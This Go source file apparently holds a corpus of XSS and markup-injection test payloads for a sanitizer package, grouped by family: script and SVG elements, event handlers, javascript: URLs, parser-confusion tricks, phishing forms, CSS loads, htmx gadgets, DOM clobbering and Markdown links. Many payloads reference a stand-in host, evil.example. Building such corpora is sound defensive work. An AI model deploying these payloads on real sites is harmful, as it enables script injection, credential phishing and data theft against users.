package markup

// payloads are attacks of our own writing, by family: elements that run, event
// attributes, addresses that run, nesting and splitting, parser confusion,
// forms and frames, styles, htmx attributes, clobbering, Markdown. (A33–A39)
var payloads = []string{
	// Elements that run or load.
	`<script>pwn()</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/src=data:,pwn()>`, "<script\n>pwn()</script\n>",
	`<svg onload=pwn()>`, `<svg><script>pwn()</script></svg>`, `<svg><animate onbegin=pwn() attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:pwn()"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=pwn()>#x"/>`,
	`<svg><foreignObject><iframe srcdoc="<script>pwn()</script>"></iframe></foreignObject></svg>`, `<svg><set attributeName=href to=javascript:pwn() />`,
	`<math><mtext><script>pwn()</script></mtext></math>`, `<math href="javascript:pwn()">x</math>`, `<math><maction actiontype="statusline#javascript:pwn()">x`,
	`<object data="javascript:pwn()"></object>`, `<embed src="data:text/html,<script>pwn()</script>">`, `<applet code=x></applet>`,
	`<iframe src="javascript:pwn()"></iframe>`, `<iframe srcdoc="&lt;script&gt;pwn()&lt;/script&gt;">`, `<frameset onload=pwn()><frame src=//evil.example>`,
	`<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href=//evil.example>`, `<base href="//evil.example/">`,
	`<meta http-equiv=refresh content="0;url=//evil.example">`, `<meta http-equiv="Set-Cookie" content="a=b">`,
	`<portal src=//evil.example>`, `<template><script>pwn()</script></template>`, `<noscript><p title="</noscript><img src=x onerror=pwn()>">`,
	`<xml id=x><x><script>pwn()</script></x></xml>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwn()</x:script>`, `<?xml-stylesheet href="javascript:pwn()"?>`,
	`<!DOCTYPE x [<!ENTITY e "<script>pwn()</script>">]><x>&e;</x>`, `<![CDATA[<script>pwn()</script>]]>`, `<!--><script>pwn()</script>-->`, `<!--<img src="--><img src=x onerror=pwn()>">`,

	// Event attributes.
	`<img src=x onerror=pwn()>`, `<img/src/onerror=pwn()>`, "<img src=x\nonerror\n=\npwn()>", `<img src=x oNeRrOr=pwn()>`, `<img src="x" onerror="pwn()"`,
	`<body onload=pwn()>`, `<details open ontoggle=pwn()>x</details>`, `<video src=x onerror=pwn()></video>`, `<audio src onloadstart=pwn()>`,
	`<p onclick=pwn()>x</p>`, `<a href=# onmouseover=pwn()>x</a>`, `<input autofocus onfocus=pwn()>`, `<marquee onstart=pwn()>x</marquee>`, `<div onpointerenter="pwn()">x</div>`,
	`<table background="javascript:pwn()"><td onmouseover=pwn()>x</td></table>`, `<p style="x" onanimationend=pwn()>x`, `<isindex type=image src=1 onerror=pwn()>`,
	"<p title=`><img src=x onerror=pwn()>`>x</p>", `<a title="a" onclick="pwn()" href="https://a.example">x</a>`, "<img src=`x`onerror=pwn()>", `<p/onclick=pwn()>x</p>`,

	// Addresses that run or mislead.
	`<a href="javascript:pwn()">x</a>`, `<a href="JaVaScRiPt:pwn()">x</a>`, "<a href=\"java\tscript:pwn()\">x</a>", "<a href=\"java\nscript:pwn()\">x</a>", `<a href="jav&#x09;ascript:pwn()">x</a>`,
	`<a href="&#106;avascript:pwn()">x</a>`, `<a href="&#x6A&#x61vascript:pwn()">x</a>`, "<a href=\"\x01javascript:pwn()\">x</a>", `<a href=" javascript:pwn()">x</a>`,
	`<a href="javascript&colon;pwn()">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>pwn()</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	`<a href="//evil.example">x</a>`, `<a href="\\evil.example">x</a>`, `<a href="/\evil.example">x</a>`, "<a href=\"/\t/evil.example\">x</a>", `<a href="https:evil.example">x</a>`, `<a href="https:/evil.example">x</a>`, `<a href="https:\\evil.example">x</a>`,
	`<a href="blob:https://evil.example/x">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="view-source:javascript:pwn()">x</a>`, `<a href="feed:javascript:pwn()">x</a>`, `<a href="https://good.example@evil.example/">x</a>`,
	`<img src="javascript:pwn()">`, `<img src="data:image/svg+xml,<svg onload=pwn()>">`, `<img srcset="x 1x, javascript:pwn() 2x">`, `<img src=x lowsrc=javascript:pwn()>`, `<img src="cid:x" onerror=pwn()>`, `<a ping="//evil.example" href="https://a.example">x</a>`,

	// Nesting, splitting, parser confusion.
	`<scr<script>ipt>pwn()</scr</script>ipt>`, `<<script>pwn()//<</script>`, `<scr<scr<script>ipt>ipt>pwn()</script>`, `<img <img src=x onerror=pwn()>>`, `<a href="x"<script>pwn()</script>">`,
	`<select><style></select><img src=x onerror=pwn()></style>`, `<select><option><style></option></select><img src=x onerror=pwn()></style>`, `<style><img src="</style><img src=x onerror=pwn()>">`,
	`<title><img src="</title><img src=x onerror=pwn()>">`, `<textarea><img title="</textarea><img src=x onerror=pwn()>">`, `<xmp><p title="</xmp><img src=x onerror=pwn()>">`, `<noembed><p id="</noembed><img src=x onerror=pwn()>">`,
	`<plaintext><img src=x onerror=pwn()>`, `<listing>&lt;img src=x onerror=pwn()&gt;</listing>`, `<math><style><img src=x onerror=pwn()></style></math>`, `<svg><style><img src=x onerror=pwn()></style></svg>`,
	`<math><annotation-xml encoding="text/html"><img src=x onerror=pwn()></annotation-xml></math>`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>`, `<svg></p><style><a id="</style><img src=1 onerror=pwn()>">`,
	`<p><table><p><img src=x onerror=pwn()></table>`, `<a><table><a href="javascript:pwn()">`, `<b><i></b><script>pwn()</i></script>`, "<img\x00 src=x onerror=pwn()>", "<scr\x00ipt>pwn()</scr\x00ipt>", "<p\x0conclick=pwn()>x", "+ADw-script+AD4-pwn()+ADw-/script+AD4-", "\xbcscript\xbepwn()\xbc/script\xbe",
	`&lt;script&gt;pwn()&lt;/script&gt;`, `&#60;script&#62;pwn()`, `</div></div></main></body></html><script>pwn()</script>`, `</p></blockquote></article><p>out`, `<p>`, `<`, `</`, `<!`, `<a href="`,

	// Forms, for phishing.
	`<form action=//evil.example><input name=password><button>Sign in</button></form>`, `<button formaction=javascript:pwn()>x</button>`, `<input type=image src=x formaction=//evil.example>`, `<select name=x><option>y</select>`, `<textarea name=csrf>x</textarea>`, `<label for=x>y</label>`, `<dialog open>x</dialog>`,

	// Styles.
	`<p style="position:fixed;inset:0">x</p>`, `<p style="background:url(//evil.example/x)">x</p>`, `<style>@import "//evil.example/x.css";</style>`, `<style>*{background:url(//evil.example)}</style>`, `<p class="dialog toast">x</p>`, `<font color=red size=7>x</font>`, `<body bgcolor=red background=//evil.example>x`, `<div align=center hidden inert>x</div>`,

	// htmx and script gadgets, clobbering.
	`<a hx-get="/agent" hx-trigger="load">x</a>`, `<p hx-on:click="pwn()" data-hx-on="click: pwn()">x</p>`, `<div data-hx-post="/agent/tickets/1/closure" hx-vals='js:{x:pwn()}'>x</div>`, `<p data-x=1 data-controller=menu>x</p>`, `<p is=x-gadget slot=a part=b>x</p>`, `<x-gadget>x</x-gadget>`,
	`<a id=body name=forms href="https://a.example">x</a>`, `<img name=cookie src=cid:x>`, `<p id="csrf-token">x</p>`, `<p aria-label="Agent" role=alert tabindex=1 accesskey=x contenteditable draggable=true>x</p>`,

	// Markdown.
	`[x](javascript:pwn())`, `[x](<javascript:pwn()>)`, "[x](java\nscript:pwn())", `[x](&#106;avascript:pwn())`, `[x](jav&#x09;ascript:pwn())`, `[x](data:text/html,pwn)`, `[x](//evil.example)`, `[x](\\\\evil.example)`, `[x](vbscript:x)`,
	`![x](javascript:pwn())`, `![x](x"onerror="pwn())`, `![a"onerror=pwn() b="](/x)`, `[x](https://a.example "t" onclick="pwn()")`, `[x](https://a.example/"onclick="pwn())`, `<javascript:pwn()>`, `<https://a.example/"onclick="pwn()>`, "[x]: javascript:pwn()\n\n[x]", "[x][y]\n\n[y]: data:text/html,pwn",
	"```\"><script>pwn()</script>\nx\n```", "```x onclick=pwn()\ny\n```", "`<script>pwn()</script>`", "# <script>pwn()</script>", "# x {#id onclick=pwn()}", "| <script>pwn()</script> | b |\n|-|-|\n| <img src=x onerror=pwn()> | d |", "> <script>pwn()</script>", "- <img src=x onerror=pwn()>", `**<b onclick=pwn()>x**`, `https://a.example/"><script>pwn()</script>`, `https://a.example/'onclick='pwn()`, `www.a.example/"onclick="pwn()`, "a@b.example\"onclick=\"pwn()",
}
